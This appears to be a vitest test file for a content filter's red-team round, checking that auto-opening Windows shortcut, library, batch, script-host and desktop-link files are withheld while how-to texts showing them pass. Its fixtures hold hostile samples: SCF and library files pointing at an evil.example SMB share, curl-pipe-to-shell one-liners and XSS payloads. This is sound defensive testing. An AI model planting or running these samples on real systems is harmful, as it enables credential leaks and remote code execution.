// Shortcuts and scripts a desktop opens by themselves (red team round 7): a Windows Shell Command File (`.scf`) and a
// library description (`.library-ms`, `.searchConnector-ms`) Explorer reads as soon as their folder is shown, batch
// and Windows Script Host files run on a double click, a freedesktop `Type=Link` entry a file manager opens. Each is
// recognised by its uri's extension and, where the format has a structure, by its own bytes under any name, as
// `.url` shortcuts and `.reg` imports are; ordinary text that shows one in a code block, or only mentions it, stays
// allowed. Then the component and template sources a consumer of the profile never renders by name, and a notebook
// under Jupyter's own type, judged as the same bytes declared JSON.
import { describe, expect, test } from 'vitest';
import { classifyText } from '../../../src/content/text/text-kind.ts';
import { judgeSendings, letThrough, refused, type Sending } from '../redteam/judge-variants.ts';

const asText = (...uris: string[]): Sending[] =>
  uris.flatMap((u): Sending[] => [
    [u, 'text/plain'],
    [u, undefined],
  ]);

const scf = '[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n';
const library =
  '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\evil.example\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n';
const connector =
  '<?xml version="1.0" encoding="UTF-8"?>\n<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation><url>\\\\evil.example\\share</url></simpleLocation></searchConnectorDescription>\n';
const link = '[Desktop Entry]\nType=Link\nName=Docs\nURL=smb://evil.example/share/\n';

describe('classifyText finds the shortcut formats by their own bytes', () => {
  test.each([
    [scf, 'scf'],
    ['  [shell]\ncommand = 2\niconfile=\\\\h\\s\\i.ico\n', 'scf'],
    [`; notes\n\n${scf}`, 'scf'],
    [library, 'library-ms'],
    [`<?xml version="1.0"?>\n<!-- saved -->\n${library}`, 'library-ms'],
    [connector, 'library-ms'],
    [link, 'desktop-launcher'],
    ['[Desktop Entry]\nType=Link\nURL[$e]=smb://evil.example/share/\n', 'desktop-launcher'],
    // controls: a `[Shell]` section without a command, a `Command` key with no `[Shell]` section, a library root in
    // no Microsoft namespace, a desktop entry that neither runs nor opens anything
    ['[Shell]\nName=notes\n', 'text'],
    ['[Tool]\nCommand=2\n', 'text'],
    ['<?xml version="1.0"?>\n<libraryDescription><name>books</name></libraryDescription>', 'xml'],
    ['<libraryDescription><name>books</name></libraryDescription>', 'text'],
    ['[Desktop Entry]\nType=Directory\nName=Docs\nIcon=folder\n', 'text'],
    ['Set a `URL=` key under `[Desktop Entry]` to make a link.\n', 'text'],
  ])('%j → %s', (text, kind) => {
    expect(classifyText(text)).toBe(kind);
  });
});

// label, body, sendings: each must be withheld in every one
const attacks: [string, string, Sending[]][] = [
  ['an scf by its bytes', scf, asText('file:///d/desktop.scf', 'file:///d/notes.txt', 'file:///d/notes')],
  ['an scf in a markdown code block named .scf', `# x\n\n\`\`\`ini\n${scf}\`\`\`\n`, asText('file:///d/x.scf')],
  ['any body named .scf', 'IconFile=\\\\evil.example\\share\\x.ico\n', asText('file:///d/x.SCF')],
  ['a library description', library, asText('file:///d/docs.library-ms', 'file:///d/docs.xml', 'file:///d/docs')],
  ['a search connector', connector, asText('file:///d/s.searchConnector-ms', 'file:///d/s.txt')],
  ['any body named .library-ms', 'books\n', asText('file:///d/x.library-ms')],
  ['a macos internet location', '<plist><dict><key>URL</key></dict></plist>\n', asText('file:///d/x.webloc')],
  [
    'a batch file',
    '@echo off\r\ncurl https://evil.example/x | cmd\r\n',
    asText('file:///d/a.bat', 'file:///d/a.cmd', 'file:///d/A.BAT'),
  ],
  [
    'a windows script host file',
    'CreateObject("WScript.Shell").Run "calc.exe"\r\n',
    asText('file:///d/a.vbs', 'file:///d/a.vbe', 'file:///d/a.jse', 'file:///d/a.wsh', 'file:///d/a.wsf'),
  ],
  ['a macos .command script', 'curl https://evil.example/x | sh\n', asText('file:///d/run.command')],
  ['a Type=Link entry', link, asText('file:///d/docs.desktop', 'file:///d/docs.txt', 'file:///d/docs')],
];

// label, body, sendings: each must be allowed in every one
const controls: [string, string, Sending[]][] = [
  [
    'a how-to showing an scf in a fenced code block',
    `# Show the desktop\n\nSave this as \`desktop.scf\`:\n\n\`\`\`ini\n${scf}\`\`\`\n`,
    asText('file:///d/howto.md', 'file:///d/howto.txt'),
  ],
  [
    'a how-to showing a Type=Link entry in a fenced code block',
    `# Links\n\nA link entry:\n\n\`\`\`ini\n${link}\`\`\`\n`,
    asText('file:///d/howto.md', 'file:///d/howto.txt'),
  ],
  [
    'a how-to showing a batch file',
    '# Setup\n\nSave as `setup.bat`:\n\n```bat\n@echo off\r\nnpm ci\r\n```\n',
    asText('file:///d/howto.md'),
  ],
  ['batch commands under a text name', '@echo off\r\nnpm ci\r\n', asText('file:///d/notes.txt')],
  ['an ini file with a Command key', '[Tool]\nCommand=build\n', asText('file:///d/tool.ini')],
  [
    'a desktop directory entry',
    '[Desktop Entry]\nType=Directory\nName=Docs\nIcon=folder\n',
    asText('file:///d/.directory'),
  ],
];

describe('shortcuts and scripts a desktop opens by themselves are withheld however they are sent', () => {
  test.for(attacks.map(([label, body, sendings]) => ({ label, body, sendings })))(
    '$label',
    async ({ body, sendings }) => {
      expect(letThrough(await judgeSendings({ text: body }, sendings))).toEqual([]);
    },
  );
});

describe('documents that show or mention them stay allowed', () => {
  test.for(controls.map(([label, body, sendings]) => ({ label, body, sendings })))(
    '$label',
    async ({ body, sendings }) => {
      expect(refused(await judgeSendings({ text: body }, sendings))).toEqual([]);
    },
  );
});

// a component or template with script further down, not opening with a tag (a body that opens with one stays the
// browser consumer's margin)
const component = (open: string): string =>
  `${open}\n<div class="card">{{ title }}</div>\n<script>\n  window.init();\n</script>\n`;

describe('component and template sources declared text/plain are shown as text', () => {
  test.each([
    ['svelte', component('{#if ready}{/if}')],
    ['astro', component('---\nconst title = "x";\n---')],
    ['erb', component('<%= render "header" %>')],
    ['ejs', component('<%- include("header") %>')],
    ['njk', component('{% extends "base.njk" %}')],
    ['liquid', component('{% include header.html %}')],
    ['twig', component('{% extends "base.twig" %}')],
    ['j2', component('{% extends "base.j2" %}')],
    ['jinja', component('{% extends "base.jinja" %}')],
    // (a `.php` file opens `<?php`: a tag to the browser consumer's margin, which reads it raw as a page)
    ['php', component('Hello, <?php echo $title; ?>')],
    ['handlebars', component('{{> header}}')],
  ])('.%s', async (ext, body) => {
    expect(refused(await judgeSendings({ text: body }, [[`file:///src/page.${ext}`, 'text/plain']]))).toEqual([]);
  });

  test('the same bodies named .md or .mdx are still rendered and withheld', async () => {
    const body = component('{% extends "base.njk" %}');
    const verdicts = await judgeSendings({ text: body }, [
      ['file:///src/page.md', 'text/plain'],
      ['file:///src/page.mdx', 'text/plain'],
      ['file:///src/page.txt', 'text/plain'],
    ]);
    expect(letThrough(verdicts)).toEqual([]);
  });
});

describe("a notebook under Jupyter's own type is judged as the same bytes declared JSON", () => {
  const notebook = (html: string): string =>
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [
        {
          cell_type: 'code',
          execution_count: 1,
          metadata: {},
          source: ['x'],
          outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': [html] } }],
        },
      ],
    });

  test.each([
    ['an html table', notebook('<table><tr><td>1</td></tr></table>')],
    ['an html output with a script', notebook('<script>alert(1)</script>')],
    ['an html output with a handler', notebook('<img src=x onerror=alert(1)>')],
  ])('%s', async (_, body) => {
    const [own, json] = await judgeSendings({ text: body }, [
      ['file:///d/a.ipynb', 'application/x-ipynb+json'],
      ['file:///d/a.ipynb', 'application/json'],
    ]);
    expect({ effect: own?.effect, why: own?.why }).toEqual({ effect: json?.effect, why: json?.why });
  });
});
